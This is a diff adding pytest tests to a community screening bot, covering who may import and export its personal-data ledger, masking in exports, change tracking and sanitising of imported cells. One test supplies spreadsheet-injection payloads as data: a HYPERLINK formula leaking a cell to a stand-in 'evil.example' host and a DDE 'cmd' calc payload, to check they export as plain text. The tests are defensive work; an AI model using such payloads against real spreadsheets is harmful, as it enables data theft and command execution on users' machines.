@@ -3,10 +3,12 @@
 from __future__ import annotations
 
 import io
+import logging
 import shutil
 import zipfile
 from pathlib import Path
 
+import pytest
 from openpyxl import load_workbook
 from sqlmodel import Session, col, select
 
@@ -16,7 +18,7 @@ from bot.i18n import render
 from bot.types import PLATFORM_CONSOLE, ChatRef, Document, OutgoingMessage, Text
 from models.audit import ACTION_EXPORT, ACTION_IMPORT, CHANNEL_PRIVATE, AuditEntry
 from models.files import OutgoingFile, PendingImport
-from models.screening import ScreeningTarget
+from models.screening import ScreeningTarget, ScreeningTargetChange
 from tests.fakes import Chat, Harness, keys_of, texts_of
 from tests.screening_files import bad_check, id_number, write_csv, write_xlsx
 
@@ -71,6 +73,14 @@ async def importer(harness: Harness) -> Chat:
     await harness.member("王芳", "screening", "staff", "dongfeng")
     await harness.member("张伟", "screening", "staff", "chaoyang")
     return await harness.member("刘组长", "screening", "group_lead")
+
+
+async def imported(harness: Harness, tmp_path: Path) -> Chat:
+    """Return the importer's chat once the good rows are on the ledger."""
+    lead = await importer(harness)
+    await lead.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS))
+    await lead.tap("导入")
+    return lead
 
 
 async def test_a_good_list_is_checked_then_imported_on_confirmation(harness: Harness, tmp_path: Path) -> None:
@@ -265,3 +275,123 @@ async def test_an_undeliverable_export_keeps_no_file_and_never_reaches_a_group(h
     with Session(harness.app.engine) as session:
         assert session.exec(select(OutgoingFile)).all() == []
     assert len(audit(harness, ACTION_EXPORT)) == 1
+
+
+# -- access: who may import and export, and what an import may tell (issue 11, items 5 and 6) ---------------
+
+
+async def test_field_staff_cannot_probe_or_overwrite_the_ledger_with_a_one_row_list(
+    harness: Harness, tmp_path: Path
+) -> None:
+    await imported(harness, tmp_path)
+    (wang,) = [t for t in ledger(harness) if t.name == "王五"]  # 朝阳社区's, 张伟's target
+    dongfeng = await harness.member("陈静", "screening", "staff", "dongfeng")
+    probe = [[1, "王五", WANG, "13700000000", "东风小区9栋", "x"]]
+    answer = await dongfeng.send_file("名单.xlsx", xlsx(tmp_path, probe))
+    assert keys_of(answer) == ["files.import_not_allowed"] and dongfeng.fetched == 0
+    assert "台账中已有此人" not in texts_of(answer) and "第 2 号" not in texts_of(answer)
+    (after,) = [t for t in ledger(harness) if t.name == "王五"]
+    assert (after.phone, after.address) == (wang.phone, wang.address)
+    coordination = await harness.member("周敏", "coordination", "staff")
+    assert keys_of(await coordination.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS)))[0] == "files.import_summary"
+    other_lead = await harness.member("宣传组长", "publicity", "group_lead")
+    assert keys_of(await other_lead.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS))) == ["files.import_not_allowed"]
+
+
+async def test_a_merge_that_changes_phone_or_address_keeps_the_old_values_and_tells_the_staff_member(
+    harness: Harness, tmp_path: Path
+) -> None:
+    staff = await harness.member("王芳", "screening", "staff", "dongfeng")
+    await harness.member("张伟", "screening", "staff", "chaoyang")
+    lead = await harness.member("刘组长", "screening", "group_lead")
+    await lead.send_file("名单.xlsx", xlsx(tmp_path, GOOD_ROWS))
+    await lead.tap("导入")
+    staff.catch_up()
+    (li,) = [t for t in ledger(harness) if t.name == "李四"]
+    moved = [[1, "李四", LI, "13600001111", "东风新村8栋102", "武汉返长"], GOOD_ROWS[1]]
+    preview = await lead.send_file("名单2.xlsx", xlsx(tmp_path, moved, name="名单2.xlsx"))
+    assert f"台账中已有此人（排查对象第 {li.id} 号），已合并" in texts_of(preview)  # within the lead's reach
+    await lead.tap("导入")
+    (after,) = [t for t in ledger(harness) if t.name == "李四"]
+    assert (after.phone, after.address) == ("13600001111", "东风新村8栋102")
+    with Session(harness.app.engine) as session:
+        kept = session.exec(select(ScreeningTargetChange).order_by(col(ScreeningTargetChange.id))).all()
+    assert [(c.target_id, c.field, c.old_value, c.batch) for c in kept] == [
+        (li.id, "phone", "13812345678", "名单2"),
+        (li.id, "address", "东风小区3栋201", "名单2"),
+    ]
+    told = staff.unread()
+    assert keys_of(told) == ["screening.replaced_phone_address"] and told[0].lines[0].params["number"] == li.id
+    assert "13600001111" not in texts_of(told) and "东风新村8栋102" not in texts_of(told)  # no data, a pointer
+
+
+async def test_export_follows_the_record_scope_and_full_data_roles_only_unmask(
+    harness: Harness, tmp_path: Path
+) -> None:
+    lead = await imported(harness, tmp_path)
+    publicity_lead = await harness.member("宣传组长", "publicity", "group_lead")  # group_lead is a full_data role
+    assert keys_of(await publicity_lead.say("/export ledger")) == ["files.export_not_allowed"]
+    coordination = await harness.member("周敏", "coordination", "staff")  # in scope, not a full_data role
+    answer = await coordination.say("/export ledger")
+    assert keys_of(answer) == ["files.export_ready"]
+    sheet = load_workbook(io.BytesIO(answer[0].document.data))["东风社区"]
+    assert sheet["B2"].value == "李*" and sheet["E2"].value != LI and sheet["E2"].value.endswith(LI[-4:])
+    assert sheet["F2"].value == "138****5678"
+    full = load_workbook(io.BytesIO((await lead.say("/export ledger"))[0].document.data))["东风社区"]
+    assert (full["B2"].value, full["E2"].value, full["F2"].value) == ("李四", LI, "13812345678")
+    entries = audit(harness, ACTION_EXPORT)
+    assert [e.actor for e in entries] == ["周敏", "刘组长"] and "masked" in entries[0].detail
+
+
+async def test_exported_text_cells_are_strings_never_formulas(harness: Harness, tmp_path: Path) -> None:
+    lead = await importer(harness)
+    hostile = '=HYPERLINK("http://evil.example/?"&E2,"点击查看")'
+    rows = [
+        [1, hostile, LI, "13812345678", "东风小区3栋201", "+1+cmd|' /C calc'!A0"],
+        [2, "@SUM(1+1)", WANG, "13912345678", "东风小区5栋101", "-2+3"],
+        [3, "赵六", ZHAO, "13712345678", "东风小区1栋", "#N/A"],
+    ]
+    await lead.send_file("名单.csv", write_csv(tmp_path / "名单.csv", HEADER, rows).read_bytes())  # text, as typed
+    await lead.tap("导入")
+    answer = await lead.say("/export ledger 东风社区")
+    sheet = load_workbook(io.BytesIO(answer[0].document.data))["东风社区"]
+    assert sheet["B2"].value == "'" + hostile and sheet["B2"].data_type == "s"
+    assert sheet["I2"].value == "'+1+cmd|' /C calc'!A0" and sheet["I2"].data_type == "s"
+    assert (sheet["B3"].value, sheet["I3"].value) == ("'@SUM(1+1)", "'-2+3")
+    assert sheet["I4"].value == "#N/A" and sheet["I4"].data_type == "s"  # text, not Excel's error value
+    texts = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
+    assert texts and all(cell.data_type == "s" for cell in texts)
+
+
+async def test_imported_cells_lose_control_characters_and_the_row_is_named(harness: Harness, tmp_path: Path) -> None:
+    lead = await importer(harness)
+    rows = [[1, "李\u200b四", LI, "13812345678", "东风小区\u202e3栋201", "武汉返长"], GOOD_ROWS[1]]
+    answer = await lead.send_file("名单.xlsx", xlsx(tmp_path, rows))
+    text = texts_of(answer)
+    assert "已清理不可见字符的行（2）" in text
+    assert "第 4 行：“姓名”含不可见的控制字符，已删除" in text and "第 4 行：“现住址”含不可见的控制字符，已删除" in text
+    await lead.tap("导入")
+    assert [(t.name, t.address) for t in ledger(harness)][0] == ("李四", "东风小区3栋201")
+
+
+async def test_a_nul_in_a_list_never_crashes_the_import_nor_logs_the_batch(
+    harness: Harness, tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    lead = await importer(harness)
+    data = write_csv(
+        tmp_path / "名单.csv",
+        HEADER,
+        [[1, "王\x00五", WANG, "139\x0012345678", "朝阳新村\x005栋101", "外地\x00返长"], GOOD_ROWS[0]],
+    ).read_bytes()
+    caplog.set_level(logging.DEBUG)
+    answer = await lead.send_file("名\x00单.csv", data)
+    assert answer[0].lines[0].params["file"] == "名单.csv"
+    done = await lead.tap("导入")
+    assert keys_of(done) == ["screening.import_done"] and done[0].lines[0].params["added"] == 2
+    assert sorted((t.name, t.phone, t.address) for t in ledger(harness)) == [
+        ("李四", "13812345678", "东风小区3栋201"),
+        ("王五", "13912345678", "朝阳新村5栋101"),
+    ]
+    assert [r for r in caplog.records if r.levelno >= logging.ERROR] == []
+    logged = "\n".join(r.getMessage() for r in caplog.records)
+    assert WANG not in logged and "13912345678" not in logged and "王" not in logged
